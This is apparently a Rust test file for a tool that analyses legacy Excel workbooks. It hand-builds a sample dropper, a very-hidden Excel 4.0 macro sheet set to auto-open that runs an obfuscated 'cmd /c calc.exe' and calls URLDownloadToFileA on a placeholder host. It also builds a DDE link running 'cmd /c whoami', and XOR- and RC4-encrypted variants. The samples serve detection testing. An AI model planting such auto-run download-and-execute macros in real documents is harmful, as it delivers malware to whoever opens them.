//! Workbooks made by hand.

use expect_test::{Expect, expect};

use super::record;
use crate::office::encrypted::tests::{rc4_info, rc4_with};
use crate::office::encrypted::xor::tests::{array_of, verifier_of};
use crate::office::vba::tests::compound_file;
use crate::shown::{Opening, opened};

/// A record.
pub(crate) fn made(id: u16, data: &[u8]) -> Vec<u8> {
    let size = u16::try_from(data.len()).unwrap();
    [&id.to_le_bytes()[..], &size.to_le_bytes(), data].concat()
}

fn string(text: &str) -> Vec<u8> {
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    [&[1][..], &wide].concat()
}

fn short(text: &str) -> Vec<u8> {
    [&[u8::try_from(text.encode_utf16().count()).unwrap()][..], &string(text)].concat()
}

fn text_token(text: &str) -> Vec<u8> {
    [&[0x17][..], &short(text)].concat()
}

fn call(count: u8, function: u16) -> Vec<u8> {
    [&[0x42, count][..], &function.to_le_bytes()].concat()
}

fn cell(row: u16, column: u16) -> Vec<u8> {
    [row.to_le_bytes(), column.to_le_bytes(), [15, 0]].concat()
}

fn formula(row: u16, tokens: &[u8]) -> Vec<u8> {
    let size = u16::try_from(tokens.len()).unwrap();
    let data = [cell(row, 0), vec![0; 14], size.to_le_bytes().to_vec(), tokens.to_vec()].concat();
    made(record::FORMULA, &data)
}

fn bof(kind: u16) -> Vec<u8> {
    made(record::BOF, &[&[0, 6][..], &kind.to_le_bytes(), &[0; 12]].concat())
}

fn eof() -> Vec<u8> {
    made(record::EOF, &[])
}

/// A workbook of global records and sheets of (name, flags, records).
pub(crate) fn workbook(globals: &[u8], sheets: &[(&str, [u8; 2], Vec<u8>)]) -> Vec<u8> {
    let announced: usize = sheets.iter().map(|(name, _, _)| 4 + 6 + short(name).len()).sum();
    let mut offset = bof(5).len() + globals.len() + announced + eof().len();
    let mut out = bof(5);
    for (name, flags, records) in sheets {
        let start = u32::try_from(offset).unwrap().to_le_bytes();
        out.extend(made(record::BOUND_SHEET, &[&start[..], flags, &short(name)].concat()));
        offset += records.len();
    }
    out.extend(globals);
    out.extend(eof());
    for (_, _, records) in sheets {
        out.extend(records);
    }
    out
}

fn name(flags: u16, name: &str, tokens: &[u8]) -> Vec<u8> {
    let count = u8::try_from(name.encode_utf16().count()).unwrap();
    let size = u16::try_from(tokens.len()).unwrap().to_le_bytes();
    let mut data = [&flags.to_le_bytes()[..], &[0, count], &size, &[0; 8]].concat();
    data.extend(string(name));
    data.extend(tokens);
    made(record::NAME, &data)
}

/// A workbook with a macro sheet that nobody sees, as droppers are made.
pub(crate) fn dropper() -> Vec<u8> {
    let exec = [
        text_token("c"),
        vec![0x1e, 109, 0, 0x41, 111, 0, 0x08],
        text_token("d /c "),
        vec![0x08, 0x44, 3, 0, 0, 0, 0x08],
        call(1, 110),
    ];
    let fetch = [
        text_token("urlmon"),
        text_token("URLDownloadToFileA"),
        text_token("http://files.example/a"),
        call(3, 150),
    ];
    let mut sheet = bof(0x40);
    sheet.extend(formula(0, &exec.concat()));
    sheet.extend(formula(1, &fetch.concat()));
    sheet.extend(made(record::STRING, &[&[4, 0][..], &string("done")].concat()));
    sheet.extend(formula(2, &call(0, 54)));
    sheet.extend(made(record::LABEL_SHARED, &[cell(3, 0), vec![0, 0, 0, 0]].concat()));
    let packed = (65_u32 << 2 | 2).to_le_bytes();
    sheet.extend(made(record::RK, &[cell(4, 0), packed.to_vec()].concat()));
    sheet.extend(eof());
    let plain = [bof(0x10), eof()].concat();
    let strings = [&[1, 0, 0, 0, 1, 0, 0, 0, 8, 0][..], b"\0calc.exe"].concat();
    let externs = [&[1, 0][..], &[0, 0, 1, 0, 1, 0]].concat();
    let globals = [
        made(record::EXTERN_SHEET, &externs),
        name(0x21, "\u{1}", &[0x3a, 0, 0, 0, 0, 0, 0]),
        made(record::SHARED_STRINGS, &strings),
    ];
    workbook(&globals.concat(), &[("見積", [0, 0], plain), ("Macro1", [2, 1], sheet)])
}

fn check(stream: &[u8], passwords: &[&str], expected: &Expect) {
    let bytes = compound_file(&[("Workbook", stream)]);
    let opening = Opening { passwords, ..Opening::default() };
    expected.assert_eq(&opening.open("a.xls", &bytes));
}

#[test]
fn macro_sheet_that_nobody_sees() {
    check(
        &dropper(),
        &[],
        &expect![[r#"
            office-ole-xls
            sheets:
            -
                name: 見積
                kind: worksheet
            -
                name: Macro1
                kind: excel4-macro
                visibility: very-hidden
            names:
            -
                name: Auto_Open
                value: Macro1!A1
                visibility: hidden
            macros:
            -
                name: Macro1
                kind: excel4
                code: A1 = EXEC(\"c\" & CHAR(109) & \"d /c \" & A4)\nA2 = CALL(\"urlmon\", \"URLDownloadToFileA\", \"http://files.example/a\")  \' done\nA3 = HALT()\nA4 = \"calc.exe\"\nA5 = 65\n
            suspicious:
            -
                word: EXEC
                kind: runs
                name: Macro1
            -
                word: CALL
                kind: runs
                name: Macro1
            -
                word: URLDownloadToFileA
                kind: downloads
                name: Macro1
            -
                word: cmd /c
                kind: runs
                name: Macro1
            decoded:
            -
                kind: code
                name: Macro1
                text: cmd /c calc.exe
            lock None NotNeeded
            * hidden sheet:Macro1
            * excel4-macro macro:Macro1
            * auto-exec macro:Auto_Open
            * runs-command macro:Macro1
            * downloads macro:Macro1
            * obfuscated macro:Macro1
            Shown : calc.exe
            Code macro:Macro1: A1 = EXEC(\"c\" & CHAR(109) & \"d /c \" & A4)\nA2 = CALL(\"urlmon\", \"URLDownloadToFileA\", \"http://files.example/a\")  \' done\nA3 = HALT()\nA4 = \"calc.exe\"\nA5 = 65\n
            Code macro:Macro1: cmd /c calc.exe
        "#]],
    );
}

#[test]
fn obfuscated_and_encrypted_workbooks_are_read_like_plain_ones() {
    let plain = dropper();
    let told = |stream: &[u8], passwords: &[&str]| {
        let bytes = compound_file(&[("Workbook", stream)]);
        let lines = Opening { passwords, ..Opening::default() }.open("a.xls", &bytes);
        let about = |line: &&str| !line.starts_with(['e', 'p', 'l']) && *line != "* encrypted ";
        let rest: Vec<&str> = lines.lines().filter(about).collect();
        let lock = lines.lines().filter(|line| line.starts_with(['e', 'p', 'l']));
        (rest.join("\n"), lock.collect::<Vec<_>>().join("\n"))
    };
    let (expected, _) = told(&plain, &[]);
    let xor = with_pass(&plain, &[&[0, 0, 0, 0][..], &verifier_of(b"VelvetSweatshop")].concat());
    let array = array_of(b"VelvetSweatshop");
    let xor = changed(&xor, |offset, size, index, byte| {
        byte.rotate_right(3) ^ array[(offset + size + index) % 16]
    });
    let (found, lock) = told(&xor, &[]);
    assert_eq!(found, expected);
    assert_eq!(lock, "encryption: XOR\npassword: VelvetSweatshop\nlock Data NotNeeded");
    let rc4 = with_pass(&plain, &[&[1, 0][..], &rc4_info("秘密")].concat());
    let stream = rc4_with("秘密", rc4.len(), 1024);
    let rc4 = changed(&rc4, |offset, _, index, byte| byte ^ stream[offset + index]);
    let (found, lock) = told(&rc4, &["other", "秘密"]);
    assert_eq!(found, expected);
    assert_eq!(lock, "encryption: RC4, 40 bits, MD5\nlock Data Candidate(1)");
    let (found, _) = told(&rc4, &["other"]);
    assert_eq!(found, "office-ole-xls\n! password-not-found ");
}

/// The stream with a FILEPASS record behind its first record.
fn with_pass(stream: &[u8], pass: &[u8]) -> Vec<u8> {
    let pass = made(record::FILE_PASS, pass);
    let first = bof(5).len();
    let mut out = [&stream[..first], &pass, &stream[first..]].concat();
    let records: Vec<_> = record::Records::new(&out.clone())
        .filter(|record| record.id == record::BOUND_SHEET)
        .map(|record| record.offset)
        .collect();
    for offset in records {
        let start = u32::from_le_bytes(out[offset..offset + 4].try_into().unwrap());
        let moved = start + u32::try_from(pass.len()).unwrap();
        out[offset..offset + 4].copy_from_slice(&moved.to_le_bytes());
    }
    out
}

/// Each byte that is encrypted, changed by its record's offset and size and its own index.
fn changed(stream: &[u8], change: impl Fn(usize, usize, usize, u8) -> u8) -> Vec<u8> {
    let mut out = stream.to_vec();
    for record in record::Records::new(stream) {
        if matches!(record.id, record::BOF | record::FILE_PASS) {
            continue;
        }
        let from = if record.id == record::BOUND_SHEET { 4 } else { 0 };
        for index in from..record.data.len() {
            let byte = &mut out[record.offset + index];
            *byte = change(record.offset, record.data.len(), index, *byte);
        }
    }
    out
}

#[test]
fn links_of_workbooks() {
    let dde = [&[0, 0][..], &13_u16.to_le_bytes(), &string("cmd\u{3}/c whoami")].concat();
    let path = "\u{1}\u{5}\u{16}http://a.example/b.xls";
    let count = u16::try_from(path.len()).unwrap().to_le_bytes();
    let book = [&[0, 0][..], &count, &string(path)].concat();
    let globals = [made(record::SUP_BOOK, &dde), made(record::SUP_BOOK, &book)].concat();
    let target: Vec<u8> =
        "http://b.example/c\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let moniker =
        [0xe0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0, 0xaa, 0, 0x4b, 0xa9, 0x0b];
    let mut link = [&[1, 0, 1, 0, 2, 0, 2, 0][..], &[0; 16], &[2, 0, 0, 0, 3, 0, 0, 0]].concat();
    link.extend(moniker);
    link.extend(u32::try_from(target.len()).unwrap().to_le_bytes());
    link.extend(target);
    let sheet = [bof(0x10), made(record::HYPERLINK, &link), eof()].concat();
    check(
        &workbook(&globals, &[("A", [0, 0], sheet)]),
        &[],
        &expect![[r#"
            office-ole-xls
            sheets:
            -
                name: A
                kind: worksheet
            links:
            - cmd|/c whoami
            - http://a.example/b.xls
            lock None NotNeeded
            * dde link:1
            * runs-command link:1
            * external-link link:2
            Code link:1: cmd /c whoami
            Link link:2: http://a.example/b.xls
            Link cell:A!C2: http://b.example/c
        "#]],
    );
}

#[test]
fn strings_go_on_in_the_next_record() {
    let first = [&[2, 0, 0, 0, 2, 0, 0, 0][..], &[6, 0, 0], b"abc"].concat();
    let second =
        [&[1][..], &[0x42, 0x30, 0x44, 0x30, 0x46, 0x30], &[2, 0, 8, 1, 0], b"xy"].concat();
    let globals = [made(record::SHARED_STRINGS, &first), made(record::CONTINUE, &second)].concat();
    let lines = opened("a.xls", &compound_file(&[("Workbook", &workbook(&globals, &[]))]));
    assert!(lines.contains("abcあいう\\nxy"), "{lines}");
}

#[test]
fn changed_bytes_never_panic() {
    let stream = dropper();
    for seed in 0..300 {
        let stream = testkit::mutation::mutate(seed, &stream, b"\x42\xff\xff\xff\x17\xff");
        let _ = opened("a.xls", &compound_file(&[("Workbook", &stream)]));
    }
}
